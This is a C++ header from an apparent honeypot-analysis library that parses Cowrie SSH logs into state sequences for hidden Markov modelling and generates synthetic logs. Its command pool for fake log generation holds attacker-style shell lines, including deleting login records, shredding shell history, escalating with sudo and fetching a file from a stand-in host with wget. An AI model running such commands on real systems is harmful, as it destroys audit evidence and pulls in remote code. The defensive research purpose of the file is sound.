#pragma once

#include <json.hpp>

#include <algorithm>
#include <cctype>
#include <charconv>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <fstream>
#include <istream>
#include <map>
#include <optional>
#include <ostream>
#include <regex>
#include <sstream>
#include <string>
#include <unordered_map>
#include <vector>

#include "fhmm/error.hpp"
#include "fhmm/hmm.hpp"
#include "fhmm/sequence.hpp"

namespace fhmm {

inline const std::vector<std::string>& default_alphabet() {
    static const std::vector<std::string> names{
        "client.size",          "client.version",       "command.failed",          "command.input/delete",
        "command.input/dir-sudo", "command.input/other", "command.input/system",    "command.input/write",
        "command.success",      "direct-tcpip.data",    "direct-tcpip.request",    "log.closed",
        "log.open",             "login.failed",         "login.success",           "session.closed",
        "session.connect",      "session.file-download", "session.input"};
    return names;
}

// ---------------------------------------------------------------------------
// Command classification

enum class CommandClass { del, dir_sudo, other, system, write };

inline std::string to_string(CommandClass c) {
    switch (c) {
        case CommandClass::del: return "delete";
        case CommandClass::dir_sudo: return "dir-sudo";
        case CommandClass::system: return "system";
        case CommandClass::write: return "write";
        case CommandClass::other: break;
    }
    return "other";
}

namespace detail {

inline std::string lower(std::string s) {
    for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    return s;
}

// First whitespace-delimited token, lower-cased, with any directory prefix removed.
inline std::string leading_token(const std::string& text) {
    std::size_t start = 0;
    while (start < text.size() && std::isspace(static_cast<unsigned char>(text[start]))) ++start;
    std::size_t stop = start;
    while (stop < text.size() && !std::isspace(static_cast<unsigned char>(text[stop])) && text[stop] != ';' &&
           text[stop] != '|' && text[stop] != '>')
        ++stop;
    std::string tok = lower(text.substr(start, stop - start));
    if (const auto slash = tok.rfind('/'); slash != std::string::npos && slash + 1 < tok.size())
        tok = tok.substr(slash + 1);
    return tok;
}

inline bool in(const std::string& tok, std::initializer_list<const char*> set) {
    return std::any_of(set.begin(), set.end(), [&](const char* s) { return tok == s; });
}

}  // namespace detail

/// Ordered first-match rules on the leading token: delete, dir-sudo,
/// write, system, then other.
inline CommandClass classify_command(const std::string& text) {
    const std::string tok = detail::leading_token(text);
    if (detail::in(tok, {"rm", "unlink", "shred"})) return CommandClass::del;
    if (detail::in(tok, {"cd", "ls", "mkdir", "sudo", "chmod", "chown"})) return CommandClass::dir_sudo;
    const bool redirect = text.find('>') != std::string::npos;
    if ((detail::in(tok, {"echo", "cat"}) && redirect) || detail::in(tok, {"touch", "tee"}) ||
        (tok == "wget" && text.find("-O") != std::string::npos))
        return CommandClass::write;
    if (detail::in(tok, {"uname", "ps", "whoami", "ifconfig"}) ||
        (tok == "cat" && text.find("/proc") != std::string::npos))
        return CommandClass::system;
    return CommandClass::other;
}

// ---------------------------------------------------------------------------
// Event mapping

struct MappingRule {
    std::string event_pattern;                   // regex, full match on the event id without "cowrie."
    std::optional<std::string> command_pattern;  // regex searched in `input`, or "class:<name>"
    std::size_t state = 0;
};

/// Ordered rules mapping Cowrie events to state indices; first match wins.
class EventMapping {
public:
    EventMapping(std::vector<std::string> alphabet, std::vector<MappingRule> rules)
        : alphabet_(std::move(alphabet)), rules_(std::move(rules)) {
        if (alphabet_.empty()) throw DomainError("mapping alphabet is empty");
        std::vector<bool> covered(alphabet_.size(), false);
        for (const auto& r : rules_) {
            if (r.state >= alphabet_.size())
                throw DomainError("mapping rule state " + std::to_string(r.state) + " outside the alphabet");
            covered[r.state] = true;
            try {
                event_re_.emplace_back(r.event_pattern, std::regex::ECMAScript | std::regex::optimize);
                if (r.command_pattern && r.command_pattern->rfind("class:", 0) != 0)
                    command_re_.emplace_back(std::regex(*r.command_pattern, std::regex::ECMAScript));
                else
                    command_re_.emplace_back(std::nullopt);
            } catch (const std::regex_error& e) {
                throw DomainError("invalid mapping pattern '" + r.event_pattern + "': " + e.what());
            }
        }
        for (std::size_t s = 0; s < covered.size(); ++s)
            if (!covered[s]) throw DomainError("no mapping rule produces state " + std::to_string(s) + " (" + alphabet_[s] + ")");
    }

    const std::vector<std::string>& alphabet() const noexcept { return alphabet_; }
    const std::vector<MappingRule>& rules() const noexcept { return rules_; }

    /// State for an event, or nullopt when no rule matches.
    std::optional<std::size_t> map(std::string eventid, const std::optional<std::string>& input) const {
        if (eventid.rfind("cowrie.", 0) == 0) eventid.erase(0, 7);
        std::optional<CommandClass> cls;
        for (std::size_t i = 0; i < rules_.size(); ++i) {
            if (!std::regex_match(eventid, event_re_[i])) continue;
            const auto& cp = rules_[i].command_pattern;
            if (!cp) return rules_[i].state;
            if (!input) continue;
            if (command_re_[i]) {
                if (std::regex_search(*input, *command_re_[i])) return rules_[i].state;
                continue;
            }
            if (!cls) cls = classify_command(*input);
            if (cp->substr(6) == to_string(*cls)) return rules_[i].state;
        }
        return std::nullopt;
    }

    nlohmann::json to_json() const {
        nlohmann::json rules = nlohmann::json::array();
        for (const auto& r : rules_) {
            nlohmann::json j{{"event", r.event_pattern}, {"state", r.state}};
            if (r.command_pattern) j["command"] = *r.command_pattern;
            rules.push_back(std::move(j));
        }
        return {{"version", 1}, {"alphabet", alphabet_}, {"rules", rules}};
    }

    static EventMapping from_json(const nlohmann::json& j) {
        try {
            std::vector<MappingRule> rules;
            for (const auto& r : j.at("rules")) {
                MappingRule rule{r.at("event").get<std::string>(), std::nullopt, r.at("state").get<std::size_t>()};
                if (r.contains("command")) rule.command_pattern = r.at("command").get<std::string>();
                rules.push_back(std::move(rule));
            }
            return EventMapping(j.at("alphabet").get<std::vector<std::string>>(), std::move(rules));
        } catch (const nlohmann::json::exception& e) {
            throw DomainError(std::string("malformed mapping document: ") + e.what());
        }
    }

private:
    std::vector<std::string> alphabet_;
    std::vector<MappingRule> rules_;
    std::vector<std::regex> event_re_;
    std::vector<std::optional<std::regex>> command_re_;
};

/// The 19-state Cowrie encoding.
inline EventMapping default_mapping() {
    std::vector<MappingRule> rules{
        {R"(client\.size)", std::nullopt, 0},
        {R"(client\.version)", std::nullopt, 1},
        {R"(command\.failed)", std::nullopt, 2},
        {R"(command\.input)", "class:delete", 3},
        {R"(command\.input)", "class:dir-sudo", 4},
        {R"(command\.input)", "class:other", 5},
        {R"(command\.input)", "class:system", 6},
        {R"(command\.input)", "class:write", 7},
        {R"(command\.success)", std::nullopt, 8},
        {R"(direct-tcpip\.data)", std::nullopt, 9},
        {R"(direct-tcpip\.request)", std::nullopt, 10},
        {R"(log\.closed)", std::nullopt, 11},
        {R"(log\.open)", std::nullopt, 12},
        {R"(login\.failed)", std::nullopt, 13},
        {R"(login\.success)", std::nullopt, 14},
        {R"(session\.closed)", std::nullopt, 15},
        {R"(session\.connect)", std::nullopt, 16},
        {R"(session\.file[-_]download)", std::nullopt, 17},
        {R"(session\.input)", std::nullopt, 18},
    };
    return EventMapping(default_alphabet(), std::move(rules));
}

inline EventMapping load_mapping(const std::string& path) {
    std::ifstream in(path);
    if (!in) throw IoError("cannot open mapping file " + path);
    nlohmann::json j = nlohmann::json::parse(in, nullptr, false);
    if (j.is_discarded()) throw DomainError("mapping file " + path + " is not valid JSON");
    return EventMapping::from_json(j);
}

// ---------------------------------------------------------------------------
// Log parsing

struct RawEvent {
    std::string eventid;
    std::string session;
    std::string timestamp;
    std::optional<std::string> input;
    std::string src_ip;
};

/// ISO-8601 "YYYY-MM-DDTHH:MM:SS[.ffffff][Z|+HH:MM|-HH:MM]" to Unix microseconds.
inline std::optional<std::int64_t> parse_timestamp_us(const std::string& s) {
    int Y, Mo, D, h, mi, sec;
    int consumed = 0;
    if (std::sscanf(s.c_str(), "%4d-%2d-%2d%*1[T ]%2d:%2d:%2d%n", &Y, &Mo, &D, &h, &mi, &sec, &consumed) != 6)
        return std::nullopt;
    if (Mo < 1 || Mo > 12 || D < 1 || D > 31 || h > 23 || mi > 59 || sec > 60) return std::nullopt;
    std::size_t pos = static_cast<std::size_t>(consumed);
    std::int64_t micros = 0;
    if (pos < s.size() && s[pos] == '.') {
        ++pos;
        int digits = 0;
        while (pos < s.size() && std::isdigit(static_cast<unsigned char>(s[pos]))) {
            if (digits < 6) {
                micros = micros * 10 + (s[pos] - '0');
                ++digits;
            }
            ++pos;
        }
        if (digits == 0) return std::nullopt;
        while (digits++ < 6) micros *= 10;
    }
    std::int64_t offset_s = 0;
    if (pos < s.size()) {
        if (s[pos] == 'Z' && pos + 1 == s.size()) {
            // UTC
        } else if ((s[pos] == '+' || s[pos] == '-') && s.size() - pos == 6 && s[pos + 3] == ':') {
            const int oh = std::stoi(s.substr(pos + 1, 2)), om = std::stoi(s.substr(pos + 4, 2));
            offset_s = (oh * 3600 + om * 60) * (s[pos] == '+' ? 1 : -1);
        } else {
            return std::nullopt;
        }
    }
    // Days from civil date (proleptic Gregorian).
    const int y = Y - (Mo <= 2);
    const int era = (y >= 0 ? y : y - 399) / 400;
    const unsigned yoe = static_cast<unsigned>(y - era * 400);
    const unsigned doy = (153u * static_cast<unsigned>(Mo + (Mo > 2 ? -3 : 9)) + 2u) / 5u + static_cast<unsigned>(D) - 1u;
    const unsigned doe = yoe * 365u + yoe / 4u - yoe / 100u + doy;
    const std::int64_t days = static_cast<std::int64_t>(era) * 146097 + static_cast<std::int64_t>(doe) - 719468;
    const std::int64_t seconds = days * 86400 + h * 3600 + mi * 60 + sec - offset_s;
    return seconds * 1000000 + micros;
}

struct SkipEntry {
    std::size_t file = 0;
    std::size_t line = 0;  // 1-based
    std::string reason;
};

/// Accounting for one parse. Every input line lands in exactly one bucket:
/// blank + malformed + missing_fields + bad_timestamp + unmapped +
/// short_session_events + emitted_events == lines.
struct SkipReport {
    std::size_t lines = 0;
    std::size_t blank = 0;
    std::size_t malformed = 0;
    std::size_t missing_fields = 0;
    std::size_t bad_timestamp = 0;
    std::size_t unmapped = 0;
    std::size_t short_sessions = 0;
    std::size_t short_session_events = 0;
    std::size_t emitted_events = 0;
    std::size_t emitted_sessions = 0;
    std::map<std::string, std::size_t> unmapped_events;
    std::vector<SkipEntry> details;  // first kMaxDetails problem lines

    static constexpr std::size_t kMaxDetails = 1000;

    std::size_t skipped() const noexcept {
        return blank + malformed + missing_fields + bad_timestamp + unmapped + short_session_events;
    }

    nlohmann::json to_json() const {
        nlohmann::json d = nlohmann::json::array();
        for (const auto& e : details) d.push_back({{"file", e.file}, {"line", e.line}, {"reason", e.reason}});
        return {{"schema", "fhmm-skip-report"},
                {"version", 1},
                {"lines", lines},
                {"blank", blank},
                {"malformed", malformed},
                {"missing_fields", missing_fields},
                {"bad_timestamp", bad_timestamp},
                {"unmapped", unmapped},
                {"unmapped_events", unmapped_events},
                {"short_sessions", short_sessions},
                {"short_session_events", short_session_events},
                {"emitted_events", emitted_events},
                {"emitted_sessions", emitted_sessions},
                {"details", d}};
    }
};

struct ParseResult {
    std::vector<StateSequence> sessions;
    SkipReport report;
};

/// Streams line-delimited Cowrie JSON into per-session state sequences.
///
/// Events are grouped by session id and ordered by (timestamp, file, line).
/// Sessions are emitted in order of first appearance. Sessions shorter than
/// `min_length` are dropped and counted.
inline ParseResult parse_logs(const std::vector<std::istream*>& streams, const EventMapping& mapping,
                              std::size_t min_length = 2) {
    struct Ev {
        std::int64_t ts;
        std::size_t file;
        std::size_t line;
        std::size_t state;
    };
    ParseResult out;
    SkipReport& rep = out.report;
    std::unordered_map<std::string, std::size_t> index;
    std::vector<std::string> ids;
    std::vector<std::vector<Ev>> events;

    auto skip = [&](std::size_t file, std::size_t line, std::string reason) {
        if (rep.details.size() < SkipReport::kMaxDetails) rep.details.push_back({file, line, std::move(reason)});
    };

    for (std::size_t f = 0; f < streams.size(); ++f) {
        std::istream& in = *streams[f];
        std::string text;
        std::size_t lineno = 0;
        while (std::getline(in, text)) {
            ++lineno;
            ++rep.lines;
            if (!text.empty() && text.back() == '\r') text.pop_back();
            if (text.find_first_not_of(" \t") == std::string::npos) {
                ++rep.blank;
                continue;
            }
            const auto j = nlohmann::json::parse(text, nullptr, false);
            if (j.is_discarded() || !j.is_object()) {
                ++rep.malformed;
                skip(f, lineno, "malformed JSON");
                continue;
            }
            auto str = [&](const char* key) -> std::optional<std::string> {
                const auto it = j.find(key);
                if (it == j.end() || !it->is_string()) return std::nullopt;
                return it->get<std::string>();
            };
            const auto eventid = str("eventid");
            const auto session = str("session");
            const auto timestamp = str("timestamp");
            if (!eventid || eventid->empty() || !session || session->empty() || !timestamp) {
                ++rep.missing_fields;
                skip(f, lineno, "missing eventid, session or timestamp");
                continue;
            }
            const auto ts = parse_timestamp_us(*timestamp);
            if (!ts) {
                ++rep.bad_timestamp;
                skip(f, lineno, "unparseable timestamp '" + *timestamp + "'");
                continue;
            }
            const auto state = mapping.map(*eventid, str("input"));
            if (!state) {
                ++rep.unmapped;
                ++rep.unmapped_events[*eventid];
                continue;
            }
            auto [it, inserted] = index.try_emplace(*session, ids.size());
            if (inserted) {
                ids.push_back(*session);
                events.emplace_back();
            }
            events[it->second].push_back({*ts, f, lineno, *state});
        }
        if (in.bad()) throw IoError("read error in log stream " + std::to_string(f));
    }

    for (std::size_t s = 0; s < ids.size(); ++s) {
        auto& evs = events[s];
        std::stable_sort(evs.begin(), evs.end(), [](const Ev& a, const Ev& b) {
            if (a.ts != b.ts) return a.ts < b.ts;
            if (a.file != b.file) return a.file < b.file;
            return a.line < b.line;
        });
        if (evs.size() < min_length) {
            ++rep.short_sessions;
            rep.short_session_events += evs.size();
            continue;
        }
        StateSequence seq;
        seq.session_id = ids[s];
        for (const auto& e : evs) {
            seq.symbols.push_back(static_cast<Symbol>(e.state));
            seq.timestamps.push_back(static_cast<double>(e.ts) * 1e-6);
        }
        rep.emitted_events += evs.size();
        ++rep.emitted_sessions;
        out.sessions.push_back(std::move(seq));
    }
    return out;
}

inline ParseResult parse_logs(std::istream& in, const EventMapping& mapping, std::size_t min_length = 2) {
    return parse_logs(std::vector<std::istream*>{&in}, mapping, min_length);
}

inline ParseResult parse_log_files(const std::vector<std::string>& paths, const EventMapping& mapping,
                                   std::size_t min_length = 2) {
    std::vector<std::ifstream> files;
    files.reserve(paths.size());
    std::vector<std::istream*> streams;
    for (const auto& p : paths) {
        files.emplace_back(p);
        if (!files.back()) throw IoError("cannot open log file " + p);
        streams.push_back(&files.back());
    }
    return parse_logs(streams, mapping, min_length);
}

// ---------------------------------------------------------------------------
// Synthetic corpora

/// Mixture of geometric tails offset at `min_len`, truncated to `max_len` by rejection.
struct LengthDistribution {
    struct Component {
        double weight;
        double mean;  // mean length before truncation
    };
    std::size_t min_len = 2;
    std::size_t max_len = 1400;
    std::vector<Component> components{{0.6, 8.0}, {0.3, 40.0}, {0.1, 250.0}};

    std::size_t sample(Rng& rng) const {
        std::vector<double> w;
        for (const auto& c : components) w.push_back(c.weight);
        while (true) {
            const auto& c = components[rng.categorical(w)];
            const double extra_mean = std::max(c.mean - static_cast<double>(min_len), 0.0);
            std::size_t len = min_len;
            if (extra_mean > 0.0) {
                // Geometric on {0, 1, ...} with the requested mean, by inversion.
                const double p = 1.0 / (1.0 + extra_mean);
                double u;
                do {
                    u = rng.uniform();
                } while (u == 0.0);
                len += static_cast<std::size_t>(std::floor(std::log(u) / std::log1p(-p)));
            }
            if (len <= max_len) return len;
        }
    }
};

struct GeneratorSpec {
    HmmModel model;
    LengthDistribution lengths;
    double weight = 1.0;
};

struct SynthSpec {
    std::vector<GeneratorSpec> generators;
    std::size_t n_sessions = 0;
    std::uint64_t seed = 0;
};

struct SynthCorpus {
    std::vector<StateSequence> sessions;
    std::vector<std::size_t> labels;  // generator index per session
};

/// Seeded mixture sampling: generator by weight, then a length from that
/// generator's distribution, then the symbols.
inline SynthCorpus synth_corpus(const SynthSpec& spec) {
    if (spec.generators.empty()) throw DomainError("synthetic corpus needs at least one generator");
    if (spec.n_sessions == 0) throw DomainError("synthetic corpus needs n_sessions >= 1");
    std::vector<double> weights;
    for (const auto& g : spec.generators) {
        if (!(g.weight >= 0.0) || !std::isfinite(g.weight)) throw DomainError("generator weights must be finite and non-negative");
        if (g.lengths.components.empty() || g.lengths.min_len == 0 || g.lengths.max_len < g.lengths.min_len)
            throw DomainError("invalid session length distribution");
        validate(g.model);
        weights.push_back(g.weight);
    }
    if (!(sum(weights) > 0.0)) throw DomainError("generator weights sum to zero");

    Rng rng(spec.seed);
    SynthCorpus out;
    const std::size_t width = std::to_string(spec.n_sessions).size();
    for (std::size_t i = 0; i < spec.n_sessions; ++i) {
        const std::size_t g = rng.categorical(weights);
        const std::size_t len = spec.generators[g].lengths.sample(rng);
        auto seq = sample(spec.generators[g].model, len, rng);
        std::string num = std::to_string(i);
        seq.session_id = "syn" + std::string(width - num.size(), '0') + num;
        out.sessions.push_back(std::move(seq));
        out.labels.push_back(g);
    }
    return out;
}

namespace detail {

inline std::string format_timestamp(std::int64_t us) {
    const std::int64_t secs = us / 1000000;
    const auto micros = static_cast<int>(us % 1000000);
    std::int64_t days = secs / 86400;
    const auto rem = static_cast<int>(secs % 86400);
    // Civil date from days since epoch.
    days += 719468;
    const std::int64_t era = days / 146097;
    const auto doe = static_cast<unsigned>(days - era * 146097);
    const unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    const unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    const unsigned mp = (5 * doy + 2) / 153;
    const unsigned d = doy - (153 * mp + 2) / 5 + 1;
    const unsigned m = mp < 10 ? mp + 3 : mp - 9;
    const auto y = static_cast<std::int64_t>(yoe) + era * 400 + (m <= 2);
    char buf[40];
    std::snprintf(buf, sizeof buf, "%04lld-%02u-%02uT%02d:%02d:%02d.%06dZ", static_cast<long long>(y), m, d,
                  rem / 3600, (rem / 60) % 60, rem % 60, micros);
    return buf;
}

// A command line that classify_command puts into the given class.
inline std::string command_for(const std::string& cls, Rng& rng) {
    static const std::map<std::string, std::vector<std::string>> pool{
        {"delete", {"rm -rf /tmp/.x", "rm -f /var/log/wtmp", "unlink /tmp/a", "shred -u .bash_history"}},
        {"dir-sudo", {"cd /tmp", "ls -la", "mkdir .ssh", "chmod +x bot", "sudo su", "chown root a"}},
        {"other", {"./bot", "busybox", "enable", "sh", "history -c", "nproc"}},
        {"system", {"uname -a", "ps aux", "whoami", "ifconfig", "cat /proc/cpuinfo"}},
        {"write", {"echo ok > /tmp/o", "wget -O /tmp/b http://example.invalid/b", "touch /tmp/x", "tee a.txt"}}};
    const auto& choices = pool.at(cls);
    return choices[rng.below(choices.size())];
}

}  // namespace detail

/// Writes sessions as interleaved Cowrie JSON lines that `default_mapping`
/// parses back into the same sessions (same order, ids and states).
/// The alphabet must be the default 19-state alphabet.
inline void render_cowrie_logs(std::span<const StateSequence> sessions, std::ostream& out, std::uint64_t seed = 0) {
    const auto& alphabet = default_alphabet();
    struct Line {
        std::int64_t ts;
        std::size_t session;
        std::size_t pos;
        std::string text;
    };
    Rng rng(seed);
    std::vector<Line> lines;
    const std::int64_t base = 1491004800LL * 1000000;  // 2017-04-01T00:00:00Z
    for (std::size_t s = 0; s < sessions.size(); ++s) {
        std::int64_t ts = base + static_cast<std::int64_t>(s) * 7000000 + static_cast<std::int64_t>(rng.below(1000));
        const std::string ip = "198.51.100." + std::to_string(s % 250 + 1);
        for (std::size_t t = 0; t < sessions[s].size(); ++t) {
            const auto state = static_cast<std::size_t>(sessions[s].symbols[t]);
            if (state >= alphabet.size()) throw DomainError("state outside the default alphabet");
            const std::string& name = alphabet[state];
            nlohmann::json j;
            if (name.rfind("command.input/", 0) == 0) {
                j["eventid"] = "cowrie.command.input";
                j["input"] = detail::command_for(name.substr(14), rng);
            } else if (name == "session.file-download") {
                j["eventid"] = "cowrie.session.file_download";
            } else {
                j["eventid"] = "cowrie." + name;
            }
            j["session"] = sessions[s].session_id;
            j["src_ip"] = ip;
            j["timestamp"] = detail::format_timestamp(ts);
            lines.push_back({ts, s, t, j.dump()});
            ts += 1000 + static_cast<std::int64_t>(rng.below(4000000));
        }
    }
    std::stable_sort(lines.begin(), lines.end(), [](const Line& a, const Line& b) {
        if (a.ts != b.ts) return a.ts < b.ts;
        if (a.session != b.session) return a.session < b.session;
        return a.pos < b.pos;
    });
    for (const auto& l : lines) out << l.text << '\n';
}

// ---------------------------------------------------------------------------
// Session and alphabet files

inline constexpr const char* kSessionsHeader = "# fhmm-sessions v1";
inline constexpr const char* kAlphabetHeader = "# fhmm-alphabet v1";

/// One session per line: `<session_id>\t<s0>,<s1>,...`.
inline void write_sessions(std::ostream& out, std::span<const StateSequence> sessions) {
    out << kSessionsHeader << '\n';
    for (const auto& s : sessions) {
        out << s.session_id << '\t';
        for (std::size_t t = 0; t < s.size(); ++t) out << (t ? "," : "") << s.symbols[t];
        out << '\n';
    }
}

inline std::vector<Symbol> parse_symbol_list(const std::string& text) {
    std::vector<Symbol> out;
    std::size_t pos = 0;
    while (pos <= text.size()) {
        const std::size_t comma = std::min(text.find(',', pos), text.size());
        std::string tok = text.substr(pos, comma - pos);
        tok.erase(0, tok.find_first_not_of(" \t"));
        tok.erase(tok.find_last_not_of(" \t") + 1);
        Symbol v{};
        const auto [ptr, ec] = std::from_chars(tok.data(), tok.data() + tok.size(), v);
        if (tok.empty() || ec != std::errc() || ptr != tok.data() + tok.size() || v < 0)
            throw DomainError("invalid state index '" + tok + "'");
        out.push_back(v);
        pos = comma + 1;
    }
    return out;
}

inline std::vector<StateSequence> read_sessions(std::istream& in) {
    std::vector<StateSequence> out;
    std::string line;
    std::size_t lineno = 0;
    while (std::getline(in, line)) {
        ++lineno;
        if (!line.empty() && line.back() == '\r') line.pop_back();
        if (line.empty() || line[0] == '#') continue;
        const auto tab = line.find('\t');
        if (tab == std::string::npos) throw DomainError("sessions line " + std::to_string(lineno) + ": missing tab");
        StateSequence s;
        s.session_id = line.substr(0, tab);
        try {
            s.symbols = parse_symbol_list(line.substr(tab + 1));
        } catch (const DomainError& e) {
            throw DomainError("sessions line " + std::to_string(lineno) + ": " + e.what());
        }
        out.push_back(std::move(s));
    }
    return out;
}

inline std::vector<StateSequence> load_sessions(const std::string& path) {
    std::ifstream in(path);
    if (!in) throw IoError("cannot open sessions file " + path);
    return read_sessions(in);
}

inline void save_sessions(const std::string& path, std::span<const StateSequence> sessions) {
    std::ofstream out(path);
    if (!out) throw IoError("cannot write sessions file " + path);
    write_sessions(out, sessions);
}

inline void write_alphabet(std::ostream& out, const std::vector<std::string>& alphabet) {
    out << kAlphabetHeader << '\n';
    for (std::size_t i = 0; i < alphabet.size(); ++i) out << i << '\t' << alphabet[i] << '\n';
}

inline std::vector<std::string> read_alphabet(std::istream& in) {
    std::vector<std::string> out;
    std::string line;
    while (std::getline(in, line)) {
        if (line.empty() || line[0] == '#') continue;
        const auto tab = line.find('\t');
        if (tab == std::string::npos || std::stoul(line.substr(0, tab)) != out.size())
            throw DomainError("alphabet entries must be '<index>\\t<name>' in index order");
        out.push_back(line.substr(tab + 1));
    }
    return out;
}

}  // namespace fhmm
